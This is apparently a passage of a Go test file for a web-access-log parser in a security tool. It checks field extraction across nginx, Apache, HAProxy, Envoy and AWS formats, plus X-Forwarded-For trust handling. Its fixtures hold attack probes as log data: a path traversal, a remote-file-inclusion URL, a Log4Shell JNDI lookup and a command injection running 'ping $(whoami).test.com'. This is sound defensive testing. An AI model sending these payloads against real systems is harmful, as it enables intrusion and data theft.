package parse

import (
	"bufio"
	"compress/gzip"
	"errors"
	"fmt"
	"net/netip"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/gatewatch/gatewatch/detectors"
)

// textLines reads testdata/text/<name> (see its README for sources).
func textLines(t testing.TB, name string) []string {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", "text", name))
	if err != nil {
		t.Fatal(err)
	}
	return strings.Split(strings.TrimRight(string(b), "\n"), "\n")
}

func textParser(t testing.TB, opts Options) *Parser {
	t.Helper()
	p, err := New(opts)
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	return p
}

// want lists the fields a text line must produce. Host and XFF are checked
// too: "" there asserts the format carries none.
type textWant struct {
	time    string // RFC 3339, UTC
	ip      string // "" = invalid address
	method  string
	path    string
	query   string
	status  int
	user    string
	latency time.Duration
	bytes   int64
	ua      string
	host    string
	xff     string
	format  detectors.Format
}

func TestParseTextFormats(t *testing.T) {
	const mozMac = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_9_1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/32.0.1700.77 Safari/537.36"
	tests := []struct {
		file string
		line int // 1-based
		want textWant
	}{
		// nginx combined
		{"nginx_combined.log", 1, textWant{"2023-10-10T09:06:56Z", "127.0.0.1", "GET", "/NGUHGC", "", 404, "", 0, 125,
			"Mozilla/5.0 (Windows NT 6.2; rv:36.0) Gecko/20100101 Firefox/36.0", "", "", detectors.FormatNginxCombined}},
		{"nginx_combined.log", 2, textWant{"2021-12-02T19:47:51Z", "1.2.3.4", "GET", "/", "author=2", 200, "", 0, 35436,
			"Mozilla/5.0 (Windows; U; Windows NT 6.1; en-US) AppleWebKit/533.19.4 (KHTML, like Gecko) Version/5.0.2 Safari/533.18.5", "", "", detectors.FormatNginxCombined}},
		{"nginx_combined.log", 3, textWant{"2021-09-29T15:29:58Z", "127.0.0.1", "GET", "/%2fetc%2fpasswd", "", 404, "", 0, 162,
			"curl/7.68.0", "", "", detectors.FormatNginxCombined}},
		{"nginx_combined.log", 5, textWant{"2023-10-10T08:32:31Z", "127.4.3.2", "GET", "/", "8890121518", 200, "", 0, 10701,
			"Mozilla/5.0 (Win 9x 4.90; rv:22.0) Gecko/20200928 Firefox/22.0", "", "", detectors.FormatNginxCombined}},
		{"nginx_combined.log", 6, textWant{"2021-09-30T09:14:41Z", "127.0.0.1", "GET", "/foo", "a=<br", 404, "", 0, 162,
			"curl/7.68.0", "", "", detectors.FormatNginxCombined}},
		// garbage request lines are kept, with no method or path
		{"nginx_malformed.log", 5, textWant{"2023-07-29T17:26:06Z", "1.2.3.4", "", "", "", 400, "", 0, 157,
			"", "", "", detectors.FormatNginxCombined}},
		// nginx main
		{"nginx_main.log", 1, textWant{"2023-11-20T14:37:47Z", "89.109.34.234", "GET", "/wp-admin/install.php", "", 200, "", 0, 7542,
			"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/112.0.0.0 YaBrowser/23.5.1.750 Yowser/2.5 Safari/537.36", "", "", detectors.FormatNginxMain}},
		// no trusted proxies: the peer is the client whatever XFF says
		{"nginx_main.log", 2, textWant{"2023-11-20T14:37:48Z", "10.0.0.7", "POST", "/api/v1/login", "next=%2Fhome", 401, "alice", 0, 61,
			"curl/8.4.0", "", "203.0.113.9, 198.51.100.23, 10.0.0.5", detectors.FormatNginxMain}},
		{"nginx_main.log", 3, textWant{"2023-11-20T14:37:49Z", "10.0.0.7", "GET", "/search", `q=\x22%3E%3Cscript%3E`, 404, "", 0, 153,
			`Mozilla/5.0 \x22quoted\x22 \"bot\"`, "", "198.51.100.24", detectors.FormatNginxMain}},
		// elastic/beats nginx access fixture: the default nginx.conf "main" format with no X-Forwarded-For
		{"nginx_main.log", 4, textWant{"2017-05-29T19:02:48Z", "172.17.0.1", "GET", "/stringpatch", "", 404, "", 0, 612,
			"Mozilla/5.0 (Windows NT 6.1; rv:15.0) Gecko/20120716 Firefox/15.0a2", "", "", detectors.FormatNginxMain}},
		// Apache common
		{"apache_common.log", 1, textWant{"2021-09-30T08:00:55Z", "172.17.0.1", "GET", "/.htpasswd", "", 403, "", 0, 199, "", "", "", detectors.FormatApacheCommon}},
		{"apache_common.log", 2, textWant{"2021-09-30T08:00:55Z", "172.17.0.1", "GET", "/.listing", "", 404, "", 0, 196, "", "", "", detectors.FormatApacheCommon}},
		{"apache_common.log", 5, textWant{"2021-09-29T12:37:05Z", "172.17.0.1", "GET", "/src/scripture.php", "pageHeaderFile=http://cirt.net/rfiinc.txt??", 404, "", 0, 196, "", "", "", detectors.FormatApacheCommon}},
		// Apache combined: the same text as nginx combined, so auto-detect says nginx
		{"apache_combined.log", 1, textWant{"2015-05-17T10:05:03Z", "83.149.9.216", "GET", "/presentations/logstash-monitorama-2013/images/kibana-search.png", "", 200, "", 0, 203023, mozMac, "", "", detectors.FormatNginxCombined}},
		{"apache_combined.log", 4, textWant{"2020-06-08T06:49:01Z", "93.43.209.58", "GET", "/", "", 500, "", 0, 803, "", "", "", detectors.FormatNginxCombined}},
		{"apache_combined.log", 6, textWant{"2020-06-08T08:04:43Z", "195.54.160.135", "GET", "/solr/admin/info/system", "wt=json", 500, "", 0, 803,
			"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36", "", "", detectors.FormatNginxCombined}},
		// led by a virtual host
		{"vhost_combined.log", 1, textWant{"2020-06-08T08:04:43Z", "1.2.3.4", "GET", "/solr/admin/info/system", "wt=json", 500, "", 0, 803,
			"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36", "www.crowdsec.net", "", detectors.FormatNginxCombined}},
		{"vhost_combined.log", 3, textWant{"2020-06-08T08:04:43Z", "192.168.1.1", "GET", "/test/uppercase/extensions.JPG", "", 500, "", 0, 803,
			"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36", "www.crowdsec11.net", "", detectors.FormatNginxCombined}},
		// Apache with %D
		{"apache_latency.log", 1, textWant{"2021-09-29T12:37:05Z", "172.17.0.1", "GET", "/start.php", "lang=en", 404, "", 1532 * time.Microsecond, 196, "", "", "", detectors.FormatApacheCommon}},
		{"apache_latency.log", 2, textWant{"2015-05-17T10:05:03Z", "83.149.9.216", "GET", "/presentations/logstash-monitorama-2013/images/kibana-search.png", "", 200, "bob", 23518 * time.Microsecond, 203023, mozMac, "", "", detectors.FormatApacheCombined}},
		{"apache_latency.log", 3, textWant{"2020-06-08T06:49:01Z", "93.43.209.58", "POST", "/login", "", 500, "", 1002 * time.Microsecond, 0, "", "", "", detectors.FormatApacheCombined}},
		// Traefik CLF
		{"traefik_clf.log", 2, textWant{"2021-12-08T09:16:05Z", "172.17.0.1", "GET", "/upload.asp", "test=toto&tata=test", 200, "", 0, 405, "", "", "", detectors.FormatTraefikCLF}},
		{"traefik_clf.log", 4, textWant{"2021-12-08T13:59:39Z", "172.17.0.1", "GET", "/index", "toto=tata", 200, "", time.Millisecond, 352, "Nikto", "", "", detectors.FormatTraefikCLF}},
		{"traefik_clf.log", 5, textWant{"2022-09-28T13:38:04Z", "172.17.1.1", "GET", "/mobileadmin/home.cs", "", 0, "", 0, 0, "Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:006607)", "", "", detectors.FormatTraefikCLF}},
		{"traefik_clf.log", 7, textWant{"2024-11-24T13:40:15Z", "172.17.1.3", "GET", "/api/users", "", 200, "", 25 * time.Millisecond, 450, "curl/7.68.0", "", "", detectors.FormatTraefikCLF}},
		// AWS API Gateway CLF presets
		{"aws_apigw_clf.log", 1, textWant{"2023-06-10T15:36:28Z", "198.51.100.23", "GET", "/pets", "", 200, "", 0, 184, "", "", "", detectors.FormatAWSAPIGatewayCLF}},
		{"aws_apigw_clf.log", 2, textWant{"2023-06-10T15:36:29Z", "198.51.100.23", "POST", "/pets/{petId}", "", 403, "arn:aws:iam::123456789012:user/alice", 0, 61, "", "", "", detectors.FormatAWSAPIGatewayCLF}},
		{"aws_apigw_clf.log", 3, textWant{"2023-06-09T12:54:08Z", "198.51.100.23", "GET", "/", "", 200, "", 0, 47140, "", "", "", detectors.FormatAWSAPIGatewayCLF}},
		{"aws_apigw_clf.log", 4, textWant{"2023-06-09T12:54:09Z", "198.51.100.23", "POST", "/login", "", 401, "", 0, 28, "", "", "", detectors.FormatAWSAPIGatewayCLF}},
		// HAProxy
		{"haproxy.log", 1, textWant{"2015-01-14T12:48:57.127Z", "117.136.40.129", "GET", "/xxx/xxx", "", 200, "", 173 * time.Millisecond, 739, "", "", "", detectors.FormatHAProxy}},
		{"haproxy.log", 2, textWant{"2021-03-12T06:56:28.088Z", "22.118.26.10", "GET", "/", "", 200, "", 1264 * time.Millisecond, 20602, "", "", "", detectors.FormatHAProxy}},
		{"haproxy.log", 3, textWant{"2009-02-06T12:14:14.655Z", "10.0.1.2", "GET", "/index.html", "lang=fr", 200, "", 109 * time.Millisecond, 2750, "", "", "", detectors.FormatHAProxy}},
		// elastic/beats filebeat haproxy module fixtures: captured headers, and <NOSRV> with -1 timers (Tt is still known)
		{"haproxy.log", 4, textWant{"2018-07-30T09:03:52.726Z", "1.2.3.4", "GET", "/component---src-pages-index-js-4b15624544f97cf0bb8f.js", "", 304, "", 2 * time.Millisecond, 168, "", "", "", detectors.FormatHAProxy}},
		{"haproxy.log", 5, textWant{"2018-12-10T12:01:46.395Z", "127.0.0.1", "GET", "/", "", 503, "", 0, 213, "", "", "", detectors.FormatHAProxy}},
		{"haproxy.log", 6, textWant{"2018-12-10T15:48:56.017Z", "127.0.0.1", "GET", "/foo", "", 503, "", 0, 213, "", "", "", detectors.FormatHAProxy}},
		// Envoy default text: the client is the right-most XFF hop
		{"envoy_text.log", 1, textWant{"2016-04-15T20:17:00.31Z", "10.0.35.28", "POST", "/api/v1/locations", "", 204, "", 226 * time.Millisecond, 0, "nsq2http", "locations", "10.0.35.28", detectors.FormatEnvoyText}},
		{"envoy_text.log", 2, textWant{"2025-12-31T16:37:40.479Z", "10.0.0.12", "GET", "/assets/image.webp", "v=3", 200, "", 11 * time.Millisecond, 121258,
			"Mozilla/4.0 (Windows NT 9.0; Win64; x64; rv:136.0) Gecko/20101 Firefox/136.0", "www.example.com", "198.51.100.7, 10.0.0.12", detectors.FormatEnvoyText}},
		{"envoy_text.log", 3, textWant{"2025-12-31T17:22:06.456Z", "192.168.1.45", "POST", "/login", "", 429, "", 0, 18, "python-requests/2.31.0", "auth.example.com", "192.168.1.45", detectors.FormatEnvoyText}},
		// crowdsec envoy-logs: a bracketed IPv6 hop with no port, a v4 chain, and a v6 chain whose last hop has a port
		{"envoy_text.log", 4, textWant{"2026-01-24T01:34:36.743Z", "fd00:1234:5678::5a24", "GET", "/test", "", 200, "", 50 * time.Millisecond, 256, "curl/8.10.1", "example.com", "[fd00:1234:5678::5a24]", detectors.FormatEnvoyText}},
		{"envoy_text.log", 5, textWant{"2026-01-24T01:37:00Z", "10.42.0.1", "GET", "/api/proxy", "", 200, "", 30 * time.Millisecond, 512, "Mozilla/5.0", "proxy.example.com", "192.168.1.100, 10.42.0.1", detectors.FormatEnvoyText}},
		{"envoy_text.log", 6, textWant{"2026-01-24T01:38:00Z", "fd00:1234:5678::1", "POST", "/api/proxy6", "", 201, "", 40 * time.Millisecond, 1024, "curl/8.10.1", "proxy6.example.com", "fd00:1234:5678::5a24, [fd00:1234:5678::1]:54321", detectors.FormatEnvoyText}},
		// AWS ALB
		{"aws_alb.log", 1, textWant{"2023-04-26T12:22:55.463821Z", "192.168.1.10", "GET", "/", "", 200, "", time.Millisecond, 366, "curl/7.46.0", "www.example.com", "", detectors.FormatAWSALB}},
		{"aws_alb.log", 2, textWant{"2023-04-26T12:23:00.186641Z", "192.168.1.11", "GET", "/robots.txt", "", 200, "", 171 * time.Millisecond, 57, "curl/7.46.0", "www.example.com", "", detectors.FormatAWSALB}},
		{"aws_alb.log", 5, textWant{"2023-04-26T19:53:47.8094Z", "192.168.1.14", "GET", "/.awscfg", "", 404, "", 0, 167, "${jndi:ldap://${java:version}.domain/a}", "api.example.com", "", detectors.FormatAWSALB}},
		{"aws_alb.log", 7, textWant{"2023-04-26T19:53:56.715663Z", "192.168.1.16", "GET", "/remote_agent.php", "action=polldata&host_id=1&local_data_ids[]=3&poller_id=;ping%20%24%28whoami%29.test.com", 404, "", 0, 167,
			"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36", "cacti.example.com", "", detectors.FormatAWSALB}},
		// Captured from nginx 1.22.1, Apache 2.4.71 (Debian 12 packages) on loopback with the
		// configs in testdata/capture/ (TZ=Europe/Paris, so +0100 becomes UTC). nginx "main":
		// a real X-Forwarded-For chain, a Basic-auth user on a 401, \x22 kept as written,
		// an IPv6 peer with an IPv6 hop, and $remote_user set without auth_basic on the location.
		{"nginx_main_captured.log", 1, textWant{"2026-11-22T04:47:01Z", "127.0.0.1", "GET", "/api/items", "page=2&sort=desc", 200, "", 0, 13, "curl/7.88.1", "", "", detectors.FormatNginxMain}},
		{"nginx_main_captured.log", 2, textWant{"2026-11-22T04:47:01Z", "127.0.0.1", "POST", "/api/v1/login", "next=%2Fhome", 401, "alice", 0, 179,
			"python-requests/2.31.0", "", "203.0.113.9, 198.51.100.23", detectors.FormatNginxMain}},
		{"nginx_main_captured.log", 3, textWant{"2026-11-22T04:47:02Z", "127.0.0.1", "GET", "/wp-login.php", "", 404, "", 0, 153, `Mozilla/5.0 \x22quoted\x22 bot`, "", "", detectors.FormatNginxMain}},
		{"nginx_main_captured.log", 4, textWant{"2026-11-22T04:47:03Z", "::1", "GET", "/search", "q=%22%3E%3Cscript%3E", 404, "", 0, 153,
			"curl/7.88.1", "", "2001:db8::7, 198.51.100.24", detectors.FormatNginxMain}},
		{"nginx_main_captured.log", 5, textWant{"2026-11-22T04:47:20Z", "127.0.0.1", "GET", "/download/report.bin", "v=3", 200, "alice", 0, 150000, "Wget/1.21.3", "", "192.0.2.33", detectors.FormatNginxMain}},
		// The same requests in nginx's predefined combined format.
		{"nginx_combined_captured.log", 1, textWant{"2026-11-22T04:47:01Z", "127.0.0.1", "POST", "/api/v1/login", "next=%2Fhome", 401, "alice", 0, 179,
			"python-requests/2.31.0", "", "", detectors.FormatNginxCombined}},
		{"nginx_combined_captured.log", 2, textWant{"2026-11-22T04:47:02Z", "127.0.0.1", "GET", "/wp-login.php", "", 404, "", 0, 153, `Mozilla/5.0 \x22quoted\x22 bot`, "", "", detectors.FormatNginxCombined}},
		{"nginx_combined_captured.log", 3, textWant{"2026-11-22T04:47:03Z", "::1", "GET", "/search", "q=%22%3E%3Cscript%3E", 404, "", 0, 153, "curl/7.88.1", "", "", detectors.FormatNginxCombined}},
		// Apache combined + %D (microseconds): Apache writes a quote as \" and logs the
		// supplied Basic-auth user on the 401.
		{"apache_combined_D_captured.log", 1, textWant{"2026-11-22T04:47:33Z", "127.0.0.1", "GET", "/api/items", "page=2&sort=desc", 200, "", 1894 * time.Microsecond, 13,
			"curl/7.88.1", "", "", detectors.FormatApacheCombined}},
		{"apache_combined_D_captured.log", 2, textWant{"2026-11-22T04:47:33Z", "127.0.0.1", "POST", "/login", "next=%2Fhome", 401, "alice", 1797 * time.Microsecond, 421,
			"python-requests/2.31.0", "", "", detectors.FormatApacheCombined}},
		{"apache_combined_D_captured.log", 3, textWant{"2026-11-22T04:47:33Z", "127.0.0.1", "POST", "/login", "", 200, "alice", 439 * time.Microsecond, 8,
			"curl/7.88.1", "", "", detectors.FormatApacheCombined}},
		{"apache_combined_D_captured.log", 4, textWant{"2026-11-22T04:47:33Z", "127.0.0.1", "GET", "/wp-login.php", "", 404, "", 138 * time.Microsecond, 236,
			`Mozilla/5.0 \"quoted\" bot`, "", "", detectors.FormatApacheCombined}},
		{"apache_combined_D_captured.log", 5, textWant{"2026-11-22T04:47:33Z", "::1", "GET", "/search", "q=%22%3E%3Cscript%3E", 404, "", 100 * time.Microsecond, 236,
			"curl/7.88.1", "", "", detectors.FormatApacheCombined}},
	}
	p := textParser(t, Options{})
	files := map[string][]string{}
	for _, tc := range tests {
		if files[tc.file] == nil {
			files[tc.file] = textLines(t, tc.file)
		}
		line := files[tc.file][tc.line-1]
		t.Run(fmt.Sprintf("%s:%d", tc.file, tc.line), func(t *testing.T) {
			var ev detectors.Event
			if err := p.Parse(line, &ev); err != nil {
				t.Fatalf("Parse: %v\nline: %s", err, line)
			}
			checkTextEvent(t, &ev, tc.want)
			if ev.Raw != line {
				t.Errorf("Raw is not the line")
			}
		})
	}
}

func checkTextEvent(t *testing.T, ev *detectors.Event, w textWant) {
	t.Helper()
	wt, err := time.Parse(time.RFC3339Nano, w.time)
	if err != nil {
		t.Fatalf("bad test time %q: %v", w.time, err)
	}
	if !ev.Time.Equal(wt) || ev.Time.Location() != time.UTC {
		t.Errorf("Time = %v, want %v in UTC", ev.Time, wt)
	}
	var wip netip.Addr
	if w.ip != "" {
		wip = netip.MustParseAddr(w.ip)
	}
	if ev.ClientIP != wip {
		t.Errorf("ClientIP = %v, want %v", ev.ClientIP, wip)
	}
	got := textWant{w.time, w.ip, ev.Method, ev.Path, ev.Query, ev.Status, ev.User, ev.Latency, ev.Bytes, ev.UserAgent, ev.Host, ev.XForwardedFor, ev.Format}
	if got != w {
		t.Errorf("got  %+v\nwant %+v", got, w)
	}
}

// Every line of every success file parses, with the format the file is
// named for; the failure files fail with the expected reason.
func TestParseTextFiles(t *testing.T) {
	tests := []struct {
		file   string
		format detectors.Format // auto-detected
		reason Reason           // "" = must parse
	}{
		{"nginx_combined.log", detectors.FormatNginxCombined, ""},
		{"nginx_malformed.log", detectors.FormatNginxCombined, ""},
		{"nginx_main.log", detectors.FormatNginxMain, ""},
		{"apache_common.log", detectors.FormatApacheCommon, ""},
		{"apache_combined.log", detectors.FormatNginxCombined, ""},
		{"vhost_combined.log", detectors.FormatNginxCombined, ""},
		{"traefik_clf.log", detectors.FormatTraefikCLF, ""},
		{"aws_apigw_clf.log", detectors.FormatAWSAPIGatewayCLF, ""},
		{"haproxy.log", detectors.FormatHAProxy, ""},
		{"envoy_text.log", detectors.FormatEnvoyText, ""},
		{"aws_alb.log", detectors.FormatAWSALB, ""},
		{"nginx_main_captured.log", detectors.FormatNginxMain, ""},
		{"nginx_combined_captured.log", detectors.FormatNginxCombined, ""},
		{"apache_combined_D_captured.log", detectors.FormatApacheCombined, ""},
		{"haproxy_badreq.log", 0, ReasonBadField},
		{"haproxy_not_http.log", 0, ReasonBadField},
		// A custom log-format (a host field before the timers, "-" for the
		// client address) is not HAProxy's httplog; it is refused, not guessed.
		{"haproxy_custom.log", 0, ReasonUnknown},
	}
	p := textParser(t, Options{})
	for _, tc := range tests {
		t.Run(tc.file, func(t *testing.T) {
			forced := textParser(t, Options{Format: tc.format})
			for i, line := range textLines(t, tc.file) {
				var ev detectors.Event
				err := p.Parse(line, &ev)
				if tc.reason != "" {
					if ReasonOf(err) != tc.reason {
						t.Errorf("line %d: err = %v, want reason %s", i+1, err, tc.reason)
					}
					continue
				}
				if err != nil {
					t.Errorf("line %d: %v", i+1, err)
					continue
				}
				if ev.Format != tc.format {
					t.Errorf("line %d: format %v, want %v", i+1, ev.Format, tc.format)
				}
				// Forcing the detected format gives the same event.
				var fev detectors.Event
				if err := forced.Parse(line, &fev); err != nil || fev.Format != ev.Format || fev.Time != ev.Time || fev.Path != ev.Path {
					t.Errorf("line %d: forced %v: %v, %+v", i+1, tc.format, err, fev)
				}
			}
		})
	}
}

func TestParseForcedFormat(t *testing.T) {
	combined := textLines(t, "apache_combined.log")[3]
	common := textLines(t, "apache_common.log")[0]
	main := textLines(t, "nginx_main.log")[0]
	tests := []struct {
		name   string
		format detectors.Format
		line   string
		want   detectors.Format // FormatUnknown = rejected as bad_field
	}{
		{"combined as apache", detectors.FormatApacheCombined, combined, detectors.FormatApacheCombined},
		{"combined as nginx", detectors.FormatNginxCombined, combined, detectors.FormatNginxCombined},
		{"common as common", detectors.FormatApacheCommon, common, detectors.FormatApacheCommon},
		{"common as combined", detectors.FormatApacheCombined, common, detectors.FormatUnknown},
		{"combined as main", detectors.FormatNginxMain, combined, detectors.FormatUnknown},
		{"main as traefik", detectors.FormatTraefikCLF, main, detectors.FormatUnknown},
		{"clf as haproxy", detectors.FormatHAProxy, combined, detectors.FormatUnknown},
		{"clf as alb", detectors.FormatAWSALB, combined, detectors.FormatUnknown},
		{"clf as envoy", detectors.FormatEnvoyText, combined, detectors.FormatUnknown},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			p := textParser(t, Options{Format: tc.format})
			var ev detectors.Event
			err := p.Parse(tc.line, &ev)
			if tc.want == detectors.FormatUnknown {
				if err == nil {
					t.Fatalf("accepted as %v, want an error", ev.Format)
				}
				if r := ReasonOf(err); r != ReasonBadField && r != ReasonBadTime && r != ReasonTruncated {
					t.Errorf("reason %s, want a field error", r)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if ev.Format != tc.want {
				t.Errorf("format %v, want %v", ev.Format, tc.want)
			}
		})
	}
}

func TestParseTrustedProxies(t *testing.T) {
	trusted := []netip.Prefix{netip.MustParsePrefix("10.0.0.0/8"), netip.MustParsePrefix("198.51.100.0/24")}
	// The client forged the left-most entries; only hops appended by
	// trusted proxies, read from the right, are believed.
	spoofed := `10.0.0.7 - - [20/Nov/2023:17:37:48 +0300] "POST /login HTTP/1.1" 401 61 "-" "curl/8.4.0" "1.1.1.1, 8.8.8.8, 203.0.113.9, 198.51.100.23, 10.0.0.5"`
	untrustedPeer := `192.0.2.44 - - [20/Nov/2023:17:37:48 +0300] "POST /login HTTP/1.1" 401 61 "-" "curl/8.4.0" "1.1.1.1"`
	garbage := `10.0.0.7 - - [20/Nov/2023:17:37:48 +0300] "POST /login HTTP/1.1" 401 61 "-" "curl/8.4.0" "1.1.1.1, unknown, 10.0.0.5"`
	allTrusted := `10.0.0.7 - - [20/Nov/2023:17:37:48 +0300] "POST /login HTTP/1.1" 401 61 "-" "curl/8.4.0" "10.1.1.1, 10.0.0.5"`
	envoy := `[2025-12-31T16:37:40.479Z] "GET / HTTP/2" 200 - 0 12 11 9 "6.6.6.6, 203.0.113.9, 10.0.0.12" "ua" "id" "www.example.com" "10.42.0.82:8080"`
	tests := []struct {
		name    string
		trusted []netip.Prefix
		line    string
		want    string
	}{
		{"spoofed left entries ignored", trusted, spoofed, "203.0.113.9"},
		{"no trusted list: the peer", nil, spoofed, "10.0.0.7"},
		{"untrusted peer: XFF ignored", trusted, untrustedPeer, "192.0.2.44"},
		{"garbage hop stops the walk", trusted, garbage, "10.0.0.5"},
		{"all hops trusted: left-most hop", trusted, allTrusted, "10.1.1.1"},
		{"envoy: right-most hop without trust", nil, envoy, "10.0.0.12"},
		{"envoy: walk past trusted hops", trusted, envoy, "203.0.113.9"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			p := textParser(t, Options{TrustedProxies: tc.trusted})
			var ev detectors.Event
			if err := p.Parse(tc.line, &ev); err != nil {
				t.Fatal(err)
			}
			if ev.ClientIP != netip.MustParseAddr(tc.want) {
				t.Errorf("ClientIP = %v, want %v", ev.ClientIP, tc.want)
			}
		})
	}
}

func TestParseRejects(t *testing.T) {
	const good = `127.0.0.1 - - [10/Oct/2023:11:06:56 +0200] "GET /NGUHGC HTTP/1.1" 404 125 "-" "Mozilla/5.0"`
	tests := []struct {
		name string
		line string
		max  int
		want Reason
	}{
		{"empty", "", 0, ReasonEmpty},
		{"only newline", "\r\n", 0, ReasonEmpty},
		{"too long", good, 40, ReasonTooLong},
		{"invalid utf-8", strings.Replace(good, "Mozilla", "Moz\xffilla", 1), 0, ReasonInvalidUTF8},
		{"NUL byte", strings.Replace(good, "Mozilla", "Moz\x00illa", 1), 0, ReasonBinary},
		{"escape byte", "\x1b[31m" + good, 0, ReasonBinary},
		{"unknown start", "Sep 15 16:13:46 host nginx[1]: " + good, 0, ReasonUnknown},
		{"container prefix", "2025-12-31T17:37:40.493035218+01:00 stdout F " + good, 0, ReasonBadField},
		{"prose", "hello world", 0, ReasonUnknown},
		{"cut after address", "127.0.0.1", 0, ReasonTruncated},
		{"cut in time", good[:30], 0, ReasonTruncated},
		{"cut in request", good[:60], 0, ReasonTruncated},
		{"cut before status", good[:len(`127.0.0.1 - - [10/Oct/2023:11:06:56 +0200] "GET /NGUHGC HTTP/1.1"`)], 0, ReasonTruncated},
		{"cut in status", good[:len(`127.0.0.1 - - [10/Oct/2023:11:06:56 +0200] "GET /NGUHGC HTTP/1.1" 40`)], 0, ReasonTruncated},
		{"bad time", strings.Replace(good, "Oct", "Okt", 1), 0, ReasonBadTime},
		{"bad status", strings.Replace(good, " 404 ", " 4x4 ", 1), 0, ReasonBadField},
		{"bad bytes", strings.Replace(good, " 125 ", " 12x ", 1), 0, ReasonBadField},
		{"host name for address", strings.Replace(good, "127.0.0.1", "deadbeef.example", 1), 0, ReasonBadField},
		{"envoy bad time", `[2016-04-15T25:17:00.310Z] "POST /x HTTP/2" 204 - 154 0 226 100 "10.0.35.28" "ua" "id" "h" "u"`, 0, ReasonBadTime},
		{"envoy cut before xff", `[2016-04-15T20:17:00.310Z] "POST /x HTTP/2" 204 - 154 0 226`, 0, ReasonTruncated},
		{"haproxy badreq", textLines(t, "haproxy_badreq.log")[0], 0, ReasonBadField},
		{"haproxy cut before status", `10.0.1.2:33317 [06/Feb/2009:12:14:14.655] http-in static/srv1 10/0/30/69/109`, 0, ReasonTruncated},
		{"alb cut before request", `http 2023-04-26T12:22:55.463821Z app/x 192.168.1.10:44740 10.0.0.1:80 0.000 0.001`, 0, ReasonTruncated},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			p := textParser(t, Options{MaxLineBytes: tc.max})
			ev := detectors.Event{Method: "stale", Status: 999}
			err := p.Parse(tc.line, &ev)
			var pe *Error
			if !errors.As(err, &pe) {
				t.Fatalf("err = %v (%T), want *Error", err, err)
			}
			if pe.Reason != tc.want {
				t.Errorf("reason %s (%v), want %s", pe.Reason, err, tc.want)
			}
			if ev.Method != "" || ev.Status != 0 {
				t.Errorf("event not reset on failure: %+v", ev)
			}
		})
	}
}

// A line cut inside the user agent, after every essential field, is
// accepted with the UA it has (see parseCLF). The elastic sample ends with
// one.
func TestParseTruncatedTail(t *testing.T) {
	tests := []struct {
		line string
		ua   string
	}{
		{`46.118.127.106 - - [20/May/2015:12:05:17 +0000] "GET /scripts/grok-py-test/configlib.py HTTP/1.1" 200 235 "-" "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html`,
			"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html"},
		{`46.118.127.106 - - [20/May/2015:12:05:17 +0000] "GET /x HTTP/1.1" 200 235 "http://exa`, ""},
		{`10.0.0.7 - - [20/Nov/2023:17:37:48 +0300] "GET /x HTTP/1.1" 200 1 "-" "curl/8.4.0" "203.0.113.9, 198.51`, "curl/8.4.0"},
	}
	p := textParser(t, Options{TrustedProxies: []netip.Prefix{netip.MustParsePrefix("10.0.0.0/8")}})
	for _, tc := range tests {
		var ev detectors.Event
		if err := p.Parse(tc.line, &ev); err != nil {
			t.Fatalf("%v\n%s", err, tc.line)
		}
		if ev.UserAgent != tc.ua || ev.Status != 200 || ev.Path == "" {
			t.Errorf("got UA %q status %d path %q, want UA %q", ev.UserAgent, ev.Status, ev.Path, tc.ua)
		}
		// A cut XFF must not pick the client.
		if ev.XForwardedFor != "" || ev.ClientIP.String() != strings.Fields(tc.line)[0] {
			t.Errorf("cut XFF used: %q -> %v", ev.XForwardedFor, ev.ClientIP)
		}
	}
}

func TestParseTrimsLineEnd(t *testing.T) {
	line := textLines(t, "nginx_combined.log")[0]
	p := textParser(t, Options{})
	var ev detectors.Event
	if err := p.Parse(line+"\r\n", &ev); err != nil {
		t.Fatal(err)
	}
	if ev.Raw != line || ev.UserAgent != "Mozilla/5.0 (Windows NT 6.2; rv:36.0) Gecko/20100101 Firefox/36.0" {
		t.Errorf("Raw %q UA %q", ev.Raw, ev.UserAgent)
	}
}

func TestNewValidates(t *testing.T) {
	tests := []struct {
		name string
		opts Options
		want string // substring of the error; "" = no error
	}{
		{"zero", Options{}, ""},
		{"known format", Options{Format: detectors.FormatHAProxy}, ""},
		{"unknown format", Options{Format: detectors.Format(200)}, "not a known log format"},
		{"negative max", Options{MaxLineBytes: -1}, "max line bytes"},
		{"invalid prefix", Options{TrustedProxies: []netip.Prefix{{}}}, "trusted proxy #1"},
		{"unknown JSON field", Options{JSONFields: map[string]string{"status": "s", "sttaus": "x"}}, `unknown field "sttaus"`},
		{"empty JSON key", Options{JSONFields: map[string]string{"status": " "}}, `"status" is empty`},
		{"good JSON fields", Options{JSONFields: map[string]string{"status": "code", "client_ip": "remote_addr"}}, ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			_, err := New(tc.opts)
			if tc.want == "" {
				if err != nil {
					t.Fatal(err)
				}
				return
			}
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("err = %v, want it to mention %q", err, tc.want)
			}
		})
	}
}

// The whole elastic/examples Apache sample: every line is accounted for,
// and the only line that does not parse cleanly is the cut-off last one,
// which is accepted by design.
func TestParseElasticApacheSample(t *testing.T) {
	f, err := os.Open(filepath.Join("testdata", "text", "elastic_apache_logs.gz"))
	if err != nil {
		t.Fatal(err)
